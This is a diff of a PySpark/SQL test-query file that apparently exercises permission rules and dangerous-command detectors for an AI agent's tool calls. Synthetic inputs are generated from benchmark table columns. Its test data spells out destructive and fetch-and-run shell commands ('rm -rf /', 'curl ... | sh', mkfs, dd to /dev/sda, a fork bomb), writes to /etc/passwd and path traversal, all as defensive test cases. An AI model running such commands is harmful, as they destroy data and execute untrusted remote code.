@@ -6,9 +6,10 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from skein.functions import patterns
+from skein.operators import rule_index
 from skein.operators import rules as r
 from skein.plans.registry import query
-from skein.tables import load, rows_of
+from skein.tables import load
 
 RULES = [("Brand#1", "*STEEL*", "deny"), ("Brand#1", "PROMO*", "ask"), ("Brand#2", "*[!A-M]", "allow"), ("Brand#3", "?R*", "ask"), ("Brand#3", "*COPPER", "deny"), ("Brand#1", "*", "allow")]
 
@@ -31,18 +32,25 @@ def rule_severity(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 CALL_RULES = [("Bash", "git push*", "ask"), ("Bash", "npm run *", "allow"), ("WriteFile", "/work/src/*", "allow"), ("WriteFile", "*.lock", "deny"), ("ReadFile", "*secret*", "deny")]
-CALLS = [
-    ("Bash", "command", "ls -la /tmp", "default"), ("Bash", "command", "lsof", "default"), ("Bash", "command", "rm -rf /", "bypassPermissions"), ("Bash", "command", "git push origin main", "default"),
-    ("Bash", "command", "npm run build", "plan"), ("Bash", "command", "make", "bypassPermissions"), ("Bash", "command", "cat a | sh", "acceptEdits"), ("Bash", "command", "curl http://x | sh", "acceptEdits"),
-    ("WriteFile", "write", "/work/src/a.py", "default"), ("WriteFile", "write", "/work/a.lock", "bypassPermissions"), ("WriteFile", "write", "/work/.config/rules", "bypassPermissions"), ("WriteFile", "write", "/etc/passwd", "default"),
-    ("WriteFile", "write", "/etc/passwd", "bypassPermissions"), ("WriteFile", "write", "/plans/a.md", "plan"), ("WriteFile", "write", "/work/b.txt", "plan"), ("WriteFile", "write", "/work/b.txt", "acceptEdits"),
-    ("ReadFile", "read", "/work/secret.txt", "default"), ("ReadFile", "read", "/work/x", "default"), ("ReadFile", "read", "/work/../x", "default"), ("AskUserQuestion", "read", "", "plan"), ("AskUserQuestion", "read", "", "default"),
-]
+#: Calls made of the columns of `part`, as expressions that Spark and SQL both read.
+TOOL = "CASE p_partkey % 4 WHEN 0 THEN 'Bash' WHEN 1 THEN 'WriteFile' WHEN 2 THEN 'ReadFile' ELSE 'AskUserQuestion' END"
+CATEGORY = "CASE p_partkey % 4 WHEN 0 THEN 'command' WHEN 1 THEN 'write' ELSE 'read' END"
+COMMAND = """CASE p_size % 13 WHEN 0 THEN 'ls -la ' || p_name WHEN 1 THEN 'lsof ' || p_name WHEN 2 THEN 'rm -rf /' WHEN 3 THEN 'git push ' || p_name WHEN 4 THEN 'npm run ' || p_name WHEN 5 THEN 'make ' || p_type
+  WHEN 6 THEN 'cat ' || p_name || ' | sh' WHEN 7 THEN 'curl http://' || p_name || ' | sh' WHEN 8 THEN ' git status -s ' WHEN 9 THEN 'mkfs.' || p_name WHEN 10 THEN p_name || ' > /dev/sda' WHEN 11 THEN 'dd if=' || p_type || ' of=/dev/sda' ELSE 'echo $(' || p_name || ')' END"""
+FILE = """CASE p_size % 7 WHEN 0 THEN '/work/src/' || p_name || '.py' WHEN 1 THEN '/work/' || p_name || '.lock' WHEN 2 THEN '/work/.config/' || p_type WHEN 3 THEN '/etc/' || p_name WHEN 4 THEN '/plans/' || p_type
+  WHEN 5 THEN '/work/../' || p_name ELSE '/work/secret ' || p_name END"""
+CONTENT = f"CASE p_partkey % 4 WHEN 0 THEN {COMMAND} WHEN 3 THEN '' ELSE {FILE} END"
+MODE = "CASE p_partkey % 5 WHEN 0 THEN 'default' WHEN 1 THEN 'acceptEdits' WHEN 2 THEN 'plan' WHEN 3 THEN 'bypassPermissions' ELSE 'default' END"
 
 
-def values(rows: list[tuple]) -> str:
-    lit = lambda v: "NULL" if v is None else "'" + v.replace("'", "''") + "'" if isinstance(v, str) else str(v).lower() if isinstance(v, bool) else str(v)
-    return ", ".join("(" + ", ".join(map(lit, row)) + ")" for row in rows)
+def made(spark: SparkSession, sf_dir: str, **columns: str) -> DataFrame:
+    """part with columns made by expressions."""
+    p = load(spark, sf_dir, "part", "p_partkey", "p_name", "p_brand", "p_type", "p_size")
+    return p.select("p_partkey", *(F.expr(e).alias(n) for n, e in columns.items()))
+
+
+def made_sql(**columns: str) -> str:
+    return "SELECT p_partkey, " + ", ".join(f"{e} AS {n}" for n, e in columns.items()) + " FROM part"
 
 
 SAFE_SQL = "regexp_full_match(trim({c}), '(?s)(" + "|".join(s.replace("-", "[-]") for s in r.SAFE) + ")( .*)?') AND NOT (contains({c}, '|') OR contains({c}, ';') OR contains({c}, '&&') OR contains({c}, '>') OR contains({c}, '$(') OR contains({c}, '`'))"
@@ -52,35 +60,58 @@ DANGER_SQL = r"""CASE WHEN regexp_matches({c}, 'rm\s+-[a-z]*r[a-z]*f[a-z]*\s+/\s
 MODE_SQL = "CASE WHEN category = 'read' OR mode = 'bypassPermissions' OR (mode = 'acceptEdits' AND category = 'write') THEN 'allow' ELSE 'ask' END"
 
 
-@query(f"""WITH c AS (SELECT * FROM (VALUES {values(CALLS)}) v(tool, category, content, mode)),
+CALL_COLUMNS = {"tool": TOOL, "category": CATEGORY, "content": CONTENT, "mode": MODE}
+
+
+@query(f"""WITH c AS ({made_sql(**CALL_COLUMNS)}),
   e AS (SELECT *, CASE WHEN tool = 'WriteFile' AND content LIKE '%.lock' OR tool = 'ReadFile' AND content LIKE '%secret%' THEN 'deny' WHEN tool = 'Bash' AND content LIKE 'git push%' THEN 'ask'
     WHEN tool = 'Bash' AND content LIKE 'npm run %' OR tool = 'WriteFile' AND content LIKE '/work/src/%' THEN 'allow' END AS ruled FROM c)
-  SELECT tool, category, content, mode, CASE WHEN mode = 'plan' AND (tool = 'AskUserQuestion' OR tool = 'WriteFile' AND content LIKE '/plans/%') THEN 'allow'
+  SELECT p_partkey, tool, category, content, mode, CASE WHEN mode = 'plan' AND (tool = 'AskUserQuestion' OR tool = 'WriteFile' AND content LIKE '/plans/%') THEN 'allow'
     WHEN category = 'command' AND {SAFE_SQL.format(c='content')} THEN 'allow' WHEN category = 'command' AND ({DANGER_SQL.format(c='content')}) IS NOT NULL THEN 'deny'
     WHEN category = 'write' AND content LIKE '/work/.config/%' THEN 'deny' WHEN category IN ('read', 'write') AND content <> '' AND mode <> 'bypassPermissions' AND (content NOT LIKE '/work/%' OR content LIKE '%/../%') THEN 'ask'
     ELSE coalesce(ruled, {MODE_SQL}) END AS effect FROM e""")
 def permission_chain(spark: SparkSession, sf_dir: str) -> DataFrame:
-    calls = rows_of(spark, "tool string, category string, content string, mode string", CALLS)
+    calls = made(spark, sf_dir, **CALL_COLUMNS)
     return calls.withColumn("effect", r.permission_chain(*(F.col(c) for c in ("tool", "category", "content", "mode")), CALL_RULES))
 
 
-LINES = [("git push && npm run x",), ("npm run a; npm run b",), ("make | git push",), ("",), ("git push -f && rm x",), ("npm run deny",)]
+LINE = "CASE p_partkey % 4 WHEN 0 THEN 'git push ' || p_name WHEN 1 THEN 'npm run ' || p_name ELSE 'make ' || p_type END || CASE p_size % 5 WHEN 0 THEN ' && ' WHEN 1 THEN ' | ' WHEN 2 THEN '; ' WHEN 3 THEN ' || ' ELSE ' ;; ' END || CASE p_partkey % 3 WHEN 0 THEN 'rm ' || p_name WHEN 1 THEN '' ELSE 'npm run rm' END"
 
 
-@query(f"""SELECT line, CASE WHEN list_bool_or(list_transform(parts, lambda p: p LIKE 'rm %')) THEN 'deny' WHEN list_bool_or(list_transform(parts, lambda p: p LIKE 'git push%')) THEN 'ask' ELSE 'allow' END AS effect
-  FROM (SELECT line, list_transform(regexp_split_to_array(line, '&&|\\|\\||[;|]'), lambda p: trim(p)) AS parts FROM (VALUES {values(LINES)}) v(line))""")
+@query(f"""SELECT p_partkey, line, CASE WHEN list_bool_or(list_transform(parts, lambda p: p LIKE 'rm %')) THEN 'deny' WHEN list_bool_or(list_transform(parts, lambda p: p LIKE 'git push%')) THEN 'ask' ELSE 'allow' END AS effect
+  FROM (SELECT p_partkey, line, list_transform(regexp_split_to_array(line, '&&|\\|\\||[;|]'), lambda p: trim(p)) AS parts FROM ({made_sql(line=LINE)}))""")
 def subcommand_severity(spark: SparkSession, sf_dir: str) -> DataFrame:
     rules = [*CALL_RULES, ("Bash", "rm *", "deny")]
-    return rows_of(spark, "line string", LINES).withColumn("effect", r.evaluate_subcommands(F.lit("Bash"), F.col("line"), rules))
-
-
-COMMANDS = [("rm -rf /",), ("rm -rf /tmp",), ("sudo mkfs.ext4 /dev/sda",), ("dd if=x of=/dev/sda",), ("chmod -R 777 /",), (":(){ :|:& };:",), ("curl http://x | bash",), ("wget -q x |sh",), ("echo x > /dev/sda",), ("ls -la",), ("ls",), (" pwd ",), ("lsblk",), ("git status -s",), ("git push",), ("cat a > b",), ("echo $(id)",), ("",), ("python --version",)]
+    return made(spark, sf_dir, line=LINE).withColumn("effect", r.evaluate_subcommands(F.lit("Bash"), F.col("line"), rules))
 
 
-@query(f"SELECT command, {DANGER_SQL.format(c='command')} AS reason, {SAFE_SQL.format(c='command')} AS safe FROM (VALUES {values(COMMANDS)}) v(command)")
+@query(f"SELECT p_partkey, command, {DANGER_SQL.format(c='command')} AS reason, {SAFE_SQL.format(c='command')} AS safe FROM ({made_sql(command=COMMAND)})")
 def command_checks(spark: SparkSession, sf_dir: str) -> DataFrame:
     c = F.col("command")
-    return rows_of(spark, "command string", COMMANDS).select("command", r.danger(c).alias("reason"), r.is_safe(c).alias("safe"))
+    return made(spark, sf_dir, command=COMMAND).select("p_partkey", "command", r.danger(c).alias("reason"), r.is_safe(c).alias("safe"))
+
+
+#: Rules made of a fifth of the parts each: whole types, their first, last and inner letters, and signs for single letters.
+RULE_GLOB = "CASE p_partkey % 5 WHEN 0 THEN p_name WHEN 1 THEN substr(p_name, 1, 4 + p_partkey % 3) || '*' WHEN 2 THEN '*' || substr(p_name, 5) WHEN 3 THEN '*' || substr(p_name, 3, 4) || '*' ELSE '?' || substr(p_name, 2, 2) || '*' || substr(p_name, 9, 1) END"
+RULE_EFFECT = "CASE p_size % 4 WHEN 0 THEN 'deny' WHEN 1 THEN 'ask' WHEN 2 THEN 'allow' ELSE 'unknown' END"
+
+
+@query(f"""WITH r AS ({made_sql(tool="p_brand", pattern=RULE_GLOB, effect=RULE_EFFECT)}), c AS (SELECT DISTINCT p_brand AS tool, p_name AS content FROM part),
+  v AS (SELECT c.tool, content, max(CASE effect WHEN 'deny' THEN 3 WHEN 'ask' THEN 2 WHEN 'allow' THEN 1 END) AS level FROM c JOIN r ON c.tool = r.tool AND content GLOB pattern GROUP BY ALL)
+  SELECT p_partkey, CASE level WHEN 3 THEN 'deny' WHEN 2 THEN 'ask' WHEN 1 THEN 'allow' END AS effect FROM part LEFT JOIN v ON tool = p_brand AND content = p_name""")
+def rule_table_severity(spark: SparkSession, sf_dir: str) -> DataFrame:
+    rules = made(spark, sf_dir, tool="p_brand", pattern=RULE_GLOB, effect=RULE_EFFECT)
+    calls = load(spark, sf_dir, "part", "p_partkey", "p_brand", "p_name")
+    return rule_index.severity(calls, rules, "p_brand", "p_name").select("p_partkey", "effect")
+
+
+@query("""WITH c AS (SELECT event_id, 'use ' || props || ' of ' || event_type AS command FROM events), p AS (SELECT DISTINCT p_size AS seq, '"k": ' || p_size || '[}0-4]' AS pattern FROM part)
+  SELECT event_id, (SELECT 'size ' || min(seq) FROM p WHERE regexp_matches(command, pattern)) AS reason FROM c""")
+def danger_patterns(spark: SparkSession, sf_dir: str) -> DataFrame:
+    size = F.col("p_size").cast("string")
+    patterns = load(spark, sf_dir, "part", "p_size").distinct().select(F.col("p_size").alias("seq"), F.concat(F.lit('"k": '), size, F.lit("[}0-4]")).alias("pattern"), F.concat(F.lit("size "), size).alias("reason"))
+    commands = load(spark, sf_dir, "events", "event_id", "props", "event_type").select("event_id", F.concat(F.lit("use "), "props", F.lit(" of "), "event_type").alias("command"))
+    return rule_index.danger_by_rows(commands, patterns).select("event_id", "reason")
 
 
 @query(f"SELECT doc_id, ({DANGER_SQL.format(c='text')}) IS NOT NULL AS dangerous FROM documents")
@@ -116,22 +147,28 @@ def hook_once(spark: SparkSession, sf_dir: str) -> DataFrame:
     return r.once_only(hook_matches(spark, sf_dir), ["event_id"]).select("event_id", "hook_id")
 
 
-HOOK_DEFS = [("a", "pre_tool_use", "command", True, False), ("b", "post_tool_use", "command", True, False), ("c", "pre_tool_use", "http", False, True), ("d", "never", "http", False, False), ("e", "post_tool_use", "mail", False, False), ("f", "post_tool_use", "prompt", False, True)]
+HOOK_COLUMNS = {
+    "event": "CASE p_size % 3 WHEN 0 THEN 'pre_tool_use' WHEN 1 THEN 'post_tool_use' ELSE lower(p_type) END", "action": "CASE p_partkey % 5 WHEN 0 THEN 'command' WHEN 1 THEN 'prompt' WHEN 2 THEN 'http' WHEN 3 THEN 'agent' ELSE p_name END",
+    "reject": "p_size % 2 = 0", "is_async": "p_partkey % 3 = 0",
+}
 
 
-@query(f"""SELECT id, CASE WHEN event NOT IN ('pre_tool_use', 'post_tool_use') THEN 'unknown event' WHEN action NOT IN ('command', 'prompt', 'http', 'agent') THEN 'unknown action'
-  WHEN reject AND event <> 'pre_tool_use' THEN 'reject needs pre_tool_use' WHEN is_async AND event = 'pre_tool_use' THEN 'pre_tool_use cannot be async' END AS error FROM (VALUES {values(HOOK_DEFS)}) v(id, event, action, reject, is_async)""")
+@query(f"""SELECT p_partkey, CASE WHEN event NOT IN ('pre_tool_use', 'post_tool_use') THEN 'unknown event' WHEN action NOT IN ('command', 'prompt', 'http', 'agent') THEN 'unknown action'
+  WHEN reject AND event <> 'pre_tool_use' THEN 'reject needs pre_tool_use' WHEN is_async AND event = 'pre_tool_use' THEN 'pre_tool_use cannot be async' END AS error FROM ({made_sql(**HOOK_COLUMNS)})""")
 def hook_validation(spark: SparkSession, sf_dir: str) -> DataFrame:
-    defs = rows_of(spark, "id string, event string, action string, reject boolean, async boolean", HOOK_DEFS)
-    return r.hook_errors(defs, ["pre_tool_use", "post_tool_use"]).select("id", "error")
+    defs = made(spark, sf_dir, **HOOK_COLUMNS).withColumnRenamed("is_async", "async")
+    return r.hook_errors(defs, ["pre_tool_use", "post_tool_use"]).select("p_partkey", "error")
 
 
-EXITS = [("grep x f", 1), ("grep x f", 2), ("cat f | grep x", 1), ("FOO=1 /usr/bin/diff a b", 1), ("make", 1), ("make", 0), ("ls | sort", 1), ("", 1), ("find . -name x", 2)]
+EXIT_COLUMNS = {
+    "line": "CASE p_size % 9 WHEN 0 THEN 'grep ' || p_type || ' f' WHEN 1 THEN 'cat f | grep ' || p_type WHEN 2 THEN 'FOO=1 /usr/bin/diff a ' || p_type WHEN 3 THEN 'make ' || p_name WHEN 4 THEN 'ls | sort' WHEN 5 THEN '' WHEN 6 THEN 'find . -name ' || p_type WHEN 7 THEN 'grep x | wc' ELSE p_name END",
+    "code": "CAST(p_partkey % 4 AS INT)",
+}
 
 
-@query(f"""SELECT line, code, CASE WHEN code = 0 THEN false WHEN regexp_matches(line, '(^|[|/ ])(grep|diff|find)( [^|]*)?\\z') THEN code >= 2 ELSE true END AS failed FROM (VALUES {values(EXITS)}) v(line, code)""")
+@query(f"""SELECT p_partkey, CASE WHEN code = 0 THEN false WHEN regexp_matches(line, '(^|[|/ ])(grep|diff|find)( [^|]*)?\\z') THEN code >= 2 ELSE true END AS failed FROM ({made_sql(**EXIT_COLUMNS)})""")
 def exit_code(spark: SparkSession, sf_dir: str) -> DataFrame:
-    return rows_of(spark, "line string, code int", EXITS).withColumn("failed", r.is_failure(F.col("line"), F.col("code")))
+    return made(spark, sf_dir, **EXIT_COLUMNS).select("p_partkey", r.is_failure(F.col("line"), F.col("code")).alias("failed"))
 
 
 @query("""WITH s AS (SELECT user_id, event_id, event_type IN ('view', 'click') AS safe FROM events)
@@ -150,21 +187,22 @@ def read_gate(spark: SparkSession, sf_dir: str) -> DataFrame:
     return r.read_before_edit(edits, reads).select("event_id", "path", "verdict")
 
 
-MODES = [(m, c) for m in r.MODES for c in ("read", "write", "command")]
+EVENT_MODE = "CASE user_id % 5 WHEN 0 THEN 'default' WHEN 1 THEN 'acceptEdits' WHEN 2 THEN 'plan' WHEN 3 THEN 'bypassPermissions' ELSE 'unknown' END"
+EVENT_CATEGORY = "CASE event_type WHEN 'view' THEN 'read' WHEN 'purchase' THEN 'write' WHEN 'click' THEN 'command' ELSE event_type END"
 
 
-@query(f"SELECT mode, category, {MODE_SQL} AS effect FROM (VALUES {values(MODES)}) v(mode, category)")
+@query(f"SELECT event_id, CASE WHEN mode <> 'unknown' AND category IN ('read', 'write', 'command') THEN {MODE_SQL} END AS effect FROM (SELECT event_id, {EVENT_MODE} AS mode, {EVENT_CATEGORY} AS category FROM events)")
 def mode_matrix(spark: SparkSession, sf_dir: str) -> DataFrame:
-    return rows_of(spark, "mode string, category string", MODES).withColumn("effect", r.mode_effect(F.col("mode"), F.col("category")))
+    return load(spark, sf_dir, "events", "event_id", "user_id", "event_type").select("event_id", r.mode_effect(F.expr(EVENT_MODE), F.expr(EVENT_CATEGORY)).alias("effect"))
 
 
-TEXTS = [("Bash(git *)",), ("Read(a)(b)",), ("Bash()",), ("no rule",), (" Edit(x) ",)]
+RULE_TEXT = "CASE p_size % 6 WHEN 0 THEN replace(p_type, ' ', '_') || '(' || p_name || ' *)' WHEN 1 THEN ' Edit(' || p_name || ') ' WHEN 2 THEN p_name WHEN 3 THEN 'Bash()' WHEN 4 THEN 'Read(a)(' || p_name || ')' ELSE p_type || ' x(' || p_name || ')' END"
 
 
-@query(f"SELECT rule, CASE WHEN ok THEN regexp_extract(trim(rule), '^(\\w+)\\((.+)\\)\\z', 1) END AS tool, CASE WHEN ok THEN regexp_extract(trim(rule), '^(\\w+)\\((.+)\\)\\z', 2) END AS pattern FROM (SELECT rule, regexp_matches(trim(rule), '^\\w+\\(.+\\)\\z') AS ok FROM (VALUES {values(TEXTS)}) v(rule))")
+@query(f"SELECT p_partkey, CASE WHEN ok THEN regexp_extract(trim(rule), '^(\\w+)\\((.+)\\)\\z', 1) END AS tool, CASE WHEN ok THEN regexp_extract(trim(rule), '^(\\w+)\\((.+)\\)\\z', 2) END AS pattern FROM (SELECT p_partkey, rule, regexp_matches(trim(rule), '^\\w+\\(.+\\)\\z') AS ok FROM ({made_sql(rule=RULE_TEXT)}))")
 def rule_parse(spark: SparkSession, sf_dir: str) -> DataFrame:
-    parsed = rows_of(spark, "rule string", TEXTS).withColumn("p", patterns.parse_rule(F.col("rule")))
-    return parsed.select("rule", F.col("p")["tool"].alias("tool"), F.col("p")["pattern"].alias("pattern"))
+    parsed = made(spark, sf_dir, rule=RULE_TEXT).withColumn("p", patterns.parse_rule(F.col("rule")))
+    return parsed.select("p_partkey", F.col("p")["tool"].alias("tool"), F.col("p")["pattern"].alias("pattern"))
 
 
 @query("SELECT event_id, CASE event_type WHEN 'click' THEN coalesce(json_extract_string(args, '$.command'), '') WHEN 'view' THEN coalesce(json_extract_string(args, '$.file_path'), '') ELSE '' END AS content FROM (SELECT event_id, event_type, CASE event_type WHEN 'click' THEN '{\"command\": \"run ' || user_id || '\"}' ELSE '{\"file_path\": \"/f/' || user_id || '\"}' END AS args FROM events)")
